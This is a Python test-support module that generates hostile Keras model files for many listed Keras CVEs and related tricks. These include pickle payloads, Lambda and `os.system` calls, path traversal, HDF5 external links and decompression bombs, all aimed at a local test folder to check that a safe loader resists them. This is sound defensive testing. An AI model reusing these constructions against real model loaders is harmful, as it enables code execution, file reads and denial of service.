"""Model files that try to run code, read or fetch, one for each published hole in Keras and more.

None is stored: each is made again, aimed at a `Target` folder in which every trace would show.
"""

import base64
import io
import json
import pickle
import socket
import tarfile
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np

from dlmath.models import build
from dlmath.models.keras_archive import NOTE, NOTE_KEY, NOTE_RECIPE
from dlmath.recipe import Recipe
from tests.support.bait import Target

SIZE = 8  # side of the images of the network that each file pretends to be
RECIPE = Recipe(
    name="hostile",
    classes=("a", "b"),
    positive_class="b",
    backbone="malaria_cnn",
    weights="none",
    image_size=SIZE,
)


@dataclass(frozen=True)
class Hostile:
    """One kind of hostile file.

    Attributes:
        hole: The CVE, or a few words.
        does: What the file tries.
        make: Returns its content, aimed at a target.
        in_description: Whether all of its harm lies in `config.json`. Its weights are those of
            `good_file`, and are read as numbers.
    """

    hole: str
    does: str
    make: Callable[[Target], bytes]
    in_description: bool = False


def network() -> keras.Model:
    """Return the small network that the files are made from."""
    return build(RECIPE)


@cache
def good_file() -> bytes:
    """Return a harmless `.keras` file, whose note states its recipe as that of an export does."""
    saved = _saved(network())
    note = json.dumps({NOTE_KEY: {NOTE_RECIPE: RECIPE.to_toml()}}).encode()
    return _with_members(saved, {NOTE: note})


def with_layer(layer: dict[str, Any]) -> bytes:
    """Return the harmless file with one more layer in its description."""
    config = json.loads(_member(good_file(), "config.json"))
    layers = config["config"]["layers"]
    # The node by which the second layer takes the images fits any other that takes one tensor.
    layers.insert(1, {"name": "extra", "inbound_nodes": layers[1]["inbound_nodes"], **layer})
    return repacked({"config.json": json.dumps(config).encode()})


def calling(module: str, function: str, arguments: dict[str, Any], first: Any) -> dict[str, Any]:
    """Return a `Lambda` that calls a function by its name, as the published attacks do."""
    named = {
        "module": module,
        "class_name": "function",
        "config": function,
        "registered_name": function,
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "extra", "function": named, "arguments": arguments},
        "registered_name": None,
        "build_config": {"input_shape": [None, SIZE, SIZE, 3]},
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": first}}],
    }


def plain_layer(name: str, **config: Any) -> dict[str, Any]:
    """Return a layer of Keras's own."""
    return {
        "module": "keras.layers",
        "class_name": name,
        "config": {"name": "extra", **config},
        "registered_name": None,
        "name": "extra",
    }


def repacked(changes: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return the harmless file with members changed or added."""
    return _with_members(good_file(), changes, compression)


def _with_members(
    whole: bytes, changes: dict[str, bytes], compression: int = zipfile.ZIP_STORED
) -> bytes:
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in {**members, **changes}.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def with_weights(change: Callable[[h5py.File, str], None]) -> bytes:
    """Return the harmless file with its HDF5 part changed; `change` gets it and an array's path."""
    return repacked({"model.weights.h5": changed_weights(change)})


def changed_weights(change: Callable[[h5py.File, str], None]) -> bytes:
    """Return only the HDF5 part, changed."""
    buffer = io.BytesIO(weights_in(good_file()))
    with h5py.File(buffer, "r+") as file:
        found: list[str] = []
        file.visititems(lambda name, item: found.append(name) if hasattr(item, "dtype") else None)
        change(file, found[0])
    return buffer.getvalue()


def weights_in(content: bytes) -> bytes:
    """Return the HDF5 part of a `.keras` file."""
    return _member(content, "model.weights.h5")


def _saved(model: keras.Model) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.keras"
        model.save(path)
        return path.read_bytes()


def _member(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


class Payload:
    """Touches the marker when it is unpickled."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return Path.touch, (Path(self.marker),)


def lambda_model(target: Target) -> keras.Model:
    """Return a model with a `Lambda` that touches the marker when it is built."""
    import_path, path = "pathlib", str(target.marker)
    images = keras.Input((SIZE, SIZE, 3))
    touch = lambda x: (__import__(import_path).Path(path).touch(), x)[1]  # noqa: E731
    model = keras.Model(images, keras.layers.Lambda(touch)(images))
    target.marker.unlink(missing_ok=True)
    return model


def _lambda(target: Target) -> bytes:
    description = _member(_saved(lambda_model(target)), "config.json")
    return repacked({"config.json": description})


def _lambda_in_hdf5(target: Target) -> bytes:
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.attrs["keras_version"], file.attrs["backend"] = "3.10.0", "tensorflow"
        file.attrs["model_config"] = json.dumps(lambda_model(target).get_config(), default=str)
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"lambda"])
        weights.create_group("lambda").attrs["weight_names"] = np.array([], "S1")
    return buffer.getvalue()


def _module_path(target: Target) -> bytes:
    return with_layer(calling("os", "system", {}, f"touch {target.marker}"))


def _activation(target: Target) -> bytes:
    call = calling("os", "system", {}, None)["config"]["function"]
    return with_layer(plain_layer("Activation", activation=call))


def _get_file(target: Target) -> bytes:
    arguments = {"origin": target.secret.as_uri(), "cache_dir": str(target.folder)}
    return with_layer(calling("keras.utils", "get_file", arguments, "marker"))


def _traversing_tar(target: Target) -> bytes:
    tar = target.folder / "inner" / "weights.tar"
    with tarfile.open(tar, "w") as archive:
        archive.add(target.secret, "../../marker")
    arguments = {"origin": tar.as_uri(), "extract": True, "cache_dir": str(target.folder)}
    return with_layer(calling("keras.utils", "get_file", arguments, "weights.tar"))


def _unsafe_mode(target: Target) -> bytes:
    call = calling("keras.config", "enable_unsafe_deserialization", {}, None)
    return with_layer(call)


def _string_lookup(target: Target) -> bytes:
    return with_layer(plain_layer("StringLookup", vocabulary=str(target.secret)))


def _string_lookup_of_an_address(target: Target) -> bytes:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        address = f"http://127.0.0.1:{free.getsockname()[1]}/words.txt"
    return with_layer(plain_layer("StringLookup", vocabulary=address))


def _torch_module(target: Target) -> bytes:
    pickled = base64.b64encode(pickle.dumps(Payload(target.marker))).decode()
    module = {"class_name": "__bytes__", "config": {"value": pickled}}
    return with_layer(plain_layer("TorchModuleWrapper", module=module))


def _saved_model_layer(target: Target) -> bytes:
    return with_layer(plain_layer("TFSMLayer", filepath=str(target.folder / "inner")))


def _layer_with_a_path(target: Target) -> bytes:
    layer = plain_layer("Identity")
    layer["config"]["name"] = layer["name"] = "../../../marker"
    return with_layer(layer)


def _external_storage(target: Target) -> bytes:
    def change(file: h5py.File, name: str) -> None:
        shape = file[name].shape
        del file[name]
        stored = [(str(target.secret), 0, int(np.prod(shape)) * 4)]
        file.create_dataset(name, shape, "float32", external=stored)

    return with_weights(change)


def _external_link(target: Target) -> bytes:
    other = target.folder / "inner" / "other.h5"
    with h5py.File(other, "w") as file:
        file["x"] = np.zeros((3, 2), "float32")

    def change(file: h5py.File, name: str) -> None:
        del file[name]
        file[name] = h5py.ExternalLink(str(other), "/x")

    return with_weights(change)


def _soft_link(target: Target) -> bytes:
    def change(file: h5py.File, name: str) -> None:
        file.move(name, "elsewhere")
        file[name] = h5py.SoftLink("/elsewhere")

    return with_weights(change)


def _virtual_array(target: Target) -> bytes:
    def change(file: h5py.File, name: str) -> None:
        shape = file[name].shape
        del file[name]
        layout = h5py.VirtualLayout(shape, "float32")
        layout[...] = h5py.VirtualSource(str(target.secret), "x", shape)
        file.create_virtual_dataset(name, layout)

    return with_weights(change)


def shape_bomb(file: h5py.File, name: str) -> None:
    """Let an array claim four terabytes of which the file stores nothing."""
    del file[name]
    file.create_dataset(name, (10**6, 10**6), "float32", chunks=(10**3, 10**3))


def _cycle(target: Target) -> bytes:
    def change(file: h5py.File, name: str) -> None:
        file["layers/again"] = file["/"]

    return with_weights(change)


def _config_bomb(target: Target) -> bytes:
    return repacked({"config.json": b" " * 30_000_000 + b"{}"}, zipfile.ZIP_DEFLATED)


def _weights_bomb(target: Target) -> bytes:
    return repacked({"model.weights.h5": bytes(60_000_000)}, zipfile.ZIP_DEFLATED)


def _bottomless(target: Target) -> bytes:
    return repacked({"config.json": b'{"a":' * 100_000 + b"1" + b"}" * 100_000})


def _huge_layer(target: Target) -> bytes:
    return with_layer(plain_layer("Dense", units=10**9))


def _foreign_member(target: Target) -> bytes:
    return repacked({"../../marker": b"written outside"})


def _assets(target: Target) -> bytes:
    return repacked({"assets/layers/string_lookup/vocabulary.txt": b"a\nb\n"})


def _pickled_member(target: Target) -> bytes:
    return repacked({"model.weights.pkl": pickle.dumps(Payload(target.marker))})


def _pickle(target: Target) -> bytes:
    return pickle.dumps(Payload(target.marker))


def _registered_name(target: Target) -> bytes:
    layer = plain_layer("Identity")
    layer["registered_name"] = "builtins>eval"
    return with_layer(layer)


def _no_module(target: Target) -> bytes:
    layer = plain_layer("Lambda")
    del layer["module"]
    return with_layer(layer)


KINDS = {
    kind.hole: kind
    for kind in (
        Hostile("CVE-2024-3660", "runs the code of a Lambda layer", _lambda, True),
        Hostile("CVE-2025-1550", "names any module and function to call", _module_path, True),
        Hostile(
            "CVE-2025-1550, an activation", "passes os.system for an activation", _activation, True
        ),
        Hostile("CVE-2025-8747", "calls keras.utils.get_file, which writes files", _get_file, True),
        Hostile("CVE-2025-9905", "runs a Lambda kept in HDF5", _lambda_in_hdf5),
        Hostile("CVE-2025-9906", "switches the safe mode off from within", _unsafe_mode, True),
        Hostile("CVE-2025-12058", "reads a file as a vocabulary", _string_lookup, True),
        Hostile("CVE-2025-12058, an address", "fetches it", _string_lookup_of_an_address, True),
        Hostile("CVE-2025-12060, CVE-2025-12638", "unpacks a tar outside", _traversing_tar, True),
        Hostile("CVE-2025-49655", "unpickles in TorchModuleWrapper", _torch_module, True),
        Hostile("CVE-2026-1462", "loads a SavedModel in TFSMLayer", _saved_model_layer, True),
        Hostile("CVE-2026-1669", "reads a file as an array's storage", _external_storage),
        Hostile("CVE-2026-1669, a link", "follows a link to another file", _external_link),
        Hostile("CVE-2026-1669, a virtual array", "maps another file", _virtual_array),
        Hostile(
            "CVE-2026-0897, CVE-2026-12570",
            "claims an array of four terabytes",
            lambda target: with_weights(shape_bomb),
        ),
        Hostile("CVE-2026-12479", "names a layer by a path outside", _layer_with_a_path, True),
        Hostile("soft link", "has an array in two places", _soft_link),
        Hostile("cycle of groups", "never ends", _cycle),
        Hostile("bomb in config.json", "unpacks to a thousand times its size", _config_bomb),
        Hostile("bomb in the weights", "unpacks to a thousand times its size", _weights_bomb),
        Hostile("bottomless config.json", "is nested 100,000 deep", _bottomless, True),
        Hostile("huge layer", "asks for 10^9 units", _huge_layer, True),
        Hostile("member outside", "writes ../../marker", _foreign_member),
        Hostile("assets", "brings files of its own", _assets),
        Hostile("pickled member", "brings a pickle", _pickled_member),
        Hostile("a pickle by another name", "is a pickle", _pickle),
        Hostile("registered name", "passes for another class", _registered_name, True),
        Hostile("no module", "names a class without its module", _no_module, True),
    )
}
